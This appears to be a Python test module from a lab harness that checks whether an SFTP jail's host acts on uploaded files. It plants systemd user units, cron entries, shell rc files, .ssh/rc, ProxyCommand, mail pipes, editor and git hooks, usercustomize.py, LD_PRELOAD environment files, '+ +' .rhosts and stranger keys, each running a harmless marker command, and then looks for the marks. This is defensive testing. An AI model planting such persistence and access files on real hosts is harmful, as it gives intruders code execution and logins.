"""Attempts through what the host does with uploads: files that some service of a host reads in a home. Each would leave
a mark outside of the jail, or let somebody in. Runs in a machine.
"""

from __future__ import annotations

import os
import subprocess
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import partial

from canaries import MARKS, soon
from lab import Attempt, Lab, Out
from wire import CREATE, NO_ATTRS, WRITE, Gone, Link, Wide, attrs

WANTED = "[Install]\nWantedBy=default.target\n"
BAIT = "SFTPJAIL_ESCAPE_BAIT"


@dataclass(frozen=True)
class Bait:
    """A file to be uploaded: where below the home, what, with which mode, and links to it (from below the home too)."""

    path: str
    text: str
    mode: int = 0o644
    links: tuple[str, ...] = ()


def _mark(name: str) -> str:
    """A command that leaves a mark of that name, and what it sees."""
    return f"/bin/sh -c 'id >{MARKS}/{name}; ls / >>{MARKS}/{name}'"


def _service(name: str) -> str:
    return f"[Service]\nType=oneshot\nExecStart={_mark(name)}\n"


def _script(name: str) -> str:
    return f"#!/bin/sh\n{_mark(name)}\n"


UNITS = ".config/systemd/user"
WANTS = f"{UNITS}/default.target.wants"
# By the name of the mark. %NAME in a text is the mark's command.
BAITS: dict[str, list[Bait]] = {
    "service": [
        Bait(f"{UNITS}/a.service", _service("service") + WANTED, links=(f"{WANTS}/a.service",))
    ],
    "service-share": [
        Bait(
            ".local/share/systemd/user/b.service",
            _service("service-share") + WANTED,
            links=(".local/share/systemd/user/default.target.wants/b.service",),
        )
    ],
    "service-basic": [
        Bait(
            f"{UNITS}/c.service",
            _service("service-basic"),
            links=(f"{UNITS}/basic.target.wants/c.service",),
        )
    ],
    "timer": [
        Bait(f"{UNITS}/d.service", _service("timer")),
        Bait(
            f"{UNITS}/d.timer",
            "[Timer]\nOnStartupSec=0\n",
            links=(f"{UNITS}/timers.target.wants/d.timer",),
        ),
    ],
    "path": [
        Bait(f"{UNITS}/e.service", _service("path")),
        Bait(
            f"{UNITS}/e.path",
            "[Path]\nPathExists=/etc/passwd\n",
            links=(f"{UNITS}/paths.target.wants/e.path",),
        ),
    ],
    "dropin": [
        Bait(f"{UNITS}/dbus.service.d/x.conf", f"[Service]\nExecStartPre={_mark('dropin')}\n")
    ],
    "target-dropin": [
        Bait(f"{UNITS}/f.service", _service("target-dropin")),
        Bait(f"{UNITS}/default.target.d/x.conf", "[Unit]\nWants=f.service\n"),
    ],
    "shutdown": [
        Bait(
            f"{UNITS}/g.service",
            _service("shutdown").replace(
                "ExecStart=", "RemainAfterExit=yes\nExecStart=/bin/true\nExecStop="
            ),
            links=(f"{WANTS}/g.service",),
        )
    ],
    "socket": [
        Bait(f"{UNITS}/h.service", _service("socket")),
        Bait(f"{UNITS}/h.socket", f"[Socket]\nListenStream={MARKS}/socket-of-units\n"),
        Bait(
            f"{UNITS}/i.service",
            "[Service]\nExecStart=/bin/true\n",
            links=(f"{UNITS}/sockets.target.wants/h.socket",),
        ),
    ],
    "environment.d": [Bait(".config/environment.d/x.conf", f"{BAIT}=1\nLD_PRELOAD=/nowhere.so\n")],
    "manager's-settings": [
        Bait(".config/systemd/user.conf", f"[Manager]\nDefaultEnvironment={BAIT}=1\n")
    ],
    "user-tmpfiles": [
        Bait(".config/user-tmpfiles.d/x.conf", f"f {MARKS}/user-tmpfiles 0644 - - - out\n")
    ],
    "quadlet": [
        Bait(".config/containers/systemd/x.container", f"[Container]\nExec={_mark('quadlet')}\n")
    ],
    "dbus": [
        Bait(
            ".local/share/dbus-1/services/x.service",
            f"[D-BUS Service]\nName=x.y\nExec={_mark('dbus')}\n",
        )
    ],
    "autostart": [
        Bait(
            ".config/autostart/x.desktop",
            f"[Desktop Entry]\nType=Application\nExec={_mark('autostart')}\n",
        )
    ],
    "pam_environment": [Bait(".pam_environment", f"{BAIT}=1\nLD_PRELOAD=/nowhere.so\n")],
    "ssh-environment": [Bait(".ssh/environment", f"{BAIT}=1\nLD_PRELOAD=/nowhere.so\n")],
    "ssh-rc": [Bait(".ssh/rc", f"{_mark('ssh-rc')}\n", 0o755)],
    "ssh-config": [
        Bait(".ssh/config", f"ProxyCommand {_mark('ssh-config')}\nPermitLocalCommand yes\n", 0o600)
    ],
    "bashrc": [Bait(".bashrc", f"{_mark('bashrc')}\n")],
    "profile": [
        Bait(".profile", f"{_mark('profile')}\n"),
        Bait(".bash_profile", f"{_mark('profile')}\n"),
    ],
    "logout": [Bait(".bash_logout", f"{_mark('logout')}\n")],
    "zshenv": [Bait(".zshenv", f"{_mark('zshenv')}\n"), Bait(".kshrc", f"{_mark('zshenv')}\n")],
    "xsession": [
        Bait(name, _script("xsession"), 0o755)
        for name in (".xsession", ".xinitrc", ".xprofile", ".Xclients")
    ],
    "forward": [
        Bait(".forward", f'"|{_mark("forward")}"\n'),
        Bait(".procmailrc", f":0\n|{_mark('forward')}\n"),
    ],
    "mailfilter": [
        Bait(".mailfilter", f'to "|{_mark("mailfilter")}"\n'),
        Bait(".fetchmailrc", "mda /x\n", 0o600),
    ],
    "crontab": [
        Bait(name, f"@reboot {_mark('crontab')}\n* * * * * {_mark('crontab')}\n")
        for name in (
            "crontab",
            ".crontab",
            "cron.d/alice",
            ".cron/alice",
            "var/spool/cron/crontabs/alice",
        )
    ],
    "cron.hourly": [
        Bait(f"etc/cron.{often}/x", _script("cron.hourly"), 0o755)
        for often in ("hourly", "daily", "d")
    ],
    "incron": [Bait(".incron", f"{MARKS} IN_ALL_EVENTS {_mark('incron')}\n")],
    "logrotate": [
        Bait(".logrotate", f"{MARKS}/x {{\nprerotate\n{_mark('logrotate')}\nendscript\n}}\n")
    ],
    "cgi": [
        Bait("public_html/.htaccess", "Options +ExecCGI\nAddHandler cgi-script .sh\n"),
        Bait("public_html/x.sh", _script("cgi"), 0o755),
    ],
    "pam_mount": [
        Bait(".pam_mount.conf.xml", '<volume fstype="auto" path="/etc" mountpoint="~" />\n')
    ],
    "hushlogin": [
        Bait(".hushlogin", ""),
        Bait(".plan", "x\n"),
        Bait(".netrc", "default login root\n", 0o600),
    ],
    "editors": [
        Bait(".exrc", f":!{_mark('editors')}\n"),
        Bait(".vimrc", f":silent !{_mark('editors')}\n"),
        Bait(".gitconfig", f"[core]\n\tfsmonitor = {_mark('editors')}\n"),
    ],
    "python": [
        Bait(
            f".local/lib/python3.{minor}/site-packages/usercustomize.py",
            f"import os\nos.system({_mark('python')!r})\n",
        )
        for minor in (11, 13)
    ],
}
LOGINS = (
    ".ssh/authorized_keys",
    ".ssh/authorized_keys2",
    ".k5login",
    ".rhosts",
    ".shosts",
    ".google_authenticator",
)


def put(lab: Lab, bait: Bait) -> bool:
    """Upload one file into the home; whether that was possible."""
    path = f"{lab.home.rstrip('/')}/{bait.path}"
    _directories(lab, path)
    lab.ask(13, path.encode())
    reply = lab.ask(3, path.encode(), WRITE | CREATE, attrs(mode=bait.mode))
    if not reply.ok:
        return False
    lab.ask(6, reply.string(), Wide(0), bait.text.encode())
    lab.ask(10, reply.string(), attrs(mode=bait.mode))
    lab.ask(4, reply.string())
    for link in bait.links:
        place = f"{lab.home.rstrip('/')}/{link}"
        _directories(lab, place)
        target = os.path.relpath(path, os.path.dirname(place))
        lab.ask(20, target.encode(), place.encode())
    return True


def _directories(lab: Lab, path: str) -> None:
    made = lab.home.rstrip("/")
    for name in os.path.dirname(path).removeprefix(made).strip("/").split("/"):
        made = f"{made}/{name}"
        lab.ask(14, made.encode(), NO_ATTRS)


def upload(lab: Lab) -> dict[str, bool]:
    """Upload all baits at once, and what lets somebody in; by the name of the mark, whether it could be uploaded."""
    done = {
        name: sum(put(lab, bait) for bait in baits) == len(baits) for name, baits in BAITS.items()
    }
    key = ""
    for name in ("stranger", "key"):
        with open(f"{lab.form[name]}.pub", encoding="utf-8") as file:
            key += file.read()
    texts = {".k5login": "root\nalice@EXAMPLE.ORG\n", ".rhosts": "+ +\n", ".shosts": "+ +\n"}
    for path in LOGINS:
        done[path] = put(lab, Bait(path, texts.get(path, key if "keys" in path else "X\n"), 0o600))
    return done


def provoke(lab: Lab) -> None:
    """Give every service of the host an occasion: the last logout, logins, cron's start, and su(1) of an administrator.

    logind ends a user's manager ten seconds after the last logout (logind.conf(5),
    UserStopDelaySec=); here at once.
    """
    lab.close()
    if lab.form["booted"]:
        subprocess.run(["systemctl", "stop", f"user@{lab.form['uid']}.service"], check=False)
        subprocess.run(["systemctl", "restart", "cron"], check=False)
    else:
        subprocess.run(["sh", "-c", "rm -f /run/crond.reboot /run/crond.pid; cron"], check=False)
    for _ in range(2):
        lab.ask(17, b"/")
        channel = lab.link.session()
        channel.request(b"exec", b"true")
        channel.said(b"", 0.3)
    # Units that are obeyed come one after the other.
    known = 0
    while soon(partial(_more_marks, known), 1.5):
        known = len(os.listdir(MARKS))
    if lab.form["booted"]:
        subprocess.run(["systemctl", "stop", f"user@{lab.form['uid']}.service"], check=False)
    lab.close()
    subprocess.run(
        ["su", "-", lab.form["user"], "-c", "true"], check=False, capture_output=True, timeout=10
    )


def _more_marks(known: int) -> bool:
    return len(os.listdir(MARKS)) > known


def _obeyed(name: str, uploaded: dict[str, bool], lab: Lab) -> str:
    """Whether a mark of this bait is there."""
    path = f"{MARKS}/{name}"
    if os.path.lexists(path):
        with open(path, encoding="utf-8") as file:
            raise Out(f"the host obeyed it: {file.read()[:200]!r}")
    return "nobody obeyed it" if uploaded[name] else "it could not be uploaded"


def _socket_of_units(uploaded: dict[str, bool], lab: Lab) -> str:
    if os.path.lexists(f"{MARKS}/socket-of-units"):
        raise Out("the host listens where the upload says")
    return _obeyed("socket", uploaded, lab)


def _lets_in(path: str, options: tuple[str, ...], uploaded: dict[str, bool], lab: Lab) -> str:
    """A login by what was uploaded: with the key of a stranger, or by the name of the host."""
    if options:
        argv = [
            "ssh",
            "-F",
            "none",
            "-p",
            str(lab.form["port"]),
            "-oBatchMode=yes",
            "-oStrictHostKeyChecking=no",
        ]
        said = lab.run(*argv, *options, f"{lab.form['user']}@127.0.0.1", "-s", "sftp", seconds=6)
        if b"exit 0" in said or lab.form["spoken"].encode() in said:
            raise Out("a login")
        return said.decode("utf-8", "replace").strip().splitlines()[-1]
    try:
        link = Link(lab.form["port"], lab.form["user"], lab.form["stranger"], lab.heard)
    except Gone as error:
        return f"no login ({error})" if uploaded[path] else "it could not be uploaded"
    link.close()
    raise Out("a login with an uploaded key")


def _environment(lab: Lab) -> str:
    """Whether a process outside, anybody's, has an environment that was uploaded."""
    found = [words for what, words in lab.watched.items() if what.startswith("environment of ")]
    if found:
        raise Out("; ".join(found))
    return "no process has it"


def attempts(uploaded: dict[str, bool]) -> Iterator[Attempt]:
    """What came of each upload, after `provoke`."""
    obeyed: Callable[..., str]
    for name in BAITS:
        obeyed = _socket_of_units if name == "socket" else partial(_obeyed, name)
        yield Attempt("uploads", name, partial(obeyed, uploaded))
    for path in (".ssh/authorized_keys", ".ssh/authorized_keys2"):
        yield Attempt("uploads", path, partial(_lets_in, path, (), uploaded))
    methods = {".k5login": "gssapi-with-mic", ".rhosts": "hostbased", ".shosts": "hostbased"}
    for path, way in methods.items():
        options = (
            f"-oPreferredAuthentications={way}",
            "-oHostbasedAuthentication=yes",
            "-oGSSAPIAuthentication=yes",
        )
        yield Attempt("uploads", path, partial(_lets_in, path, options, uploaded))
    options = ("-oPreferredAuthentications=keyboard-interactive,password",)
    yield Attempt("uploads", LOGINS[-1], partial(_lets_in, LOGINS[-1], options, uploaded))
    yield Attempt("uploads", "the environment of every process", _environment)
